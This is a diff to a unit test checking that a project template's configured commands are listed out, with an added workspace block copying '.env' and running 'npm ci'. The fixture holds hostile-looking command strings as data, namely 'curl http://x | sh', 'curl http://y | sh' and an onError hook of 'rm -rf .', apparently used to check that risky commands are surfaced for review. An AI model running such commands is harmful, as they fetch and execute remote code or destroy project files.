@@ -20,6 +20,7 @@ describe("the programs of a project's template", () => {
         verification: { commands: [{ name: "tests", run: "curl http://y | sh" }] },
         workerExecution: { agents: { claude: { agent: "command:./not-claude" }, plain: { agent: "claude" } } },
       },
+      workspace: { copy: [".env"], setup: [{ name: "install", run: "npm ci" }], link: [] },
       hooks: { onError: "command:rm -rf .", onWorkerStart: { run: " COMMAND:date" }, onTasksGenerated: "registered" },
     });
     expect(programs(lab, "ours")).toEqual([
@@ -31,6 +32,8 @@ describe("the programs of a project's template", () => {
       'phases.analysis.agent: "text:curl http://x | sh"',
       'phases.verification.commands: [{"name":"tests","run":"curl http://y | sh"}]',
       'phases.workerExecution.agents.claude.agent: "command:./not-claude"',
+      'workspace.copy: [".env"]',
+      'workspace.setup: [{"name":"install","run":"npm ci"}]',
     ]);
   });
 
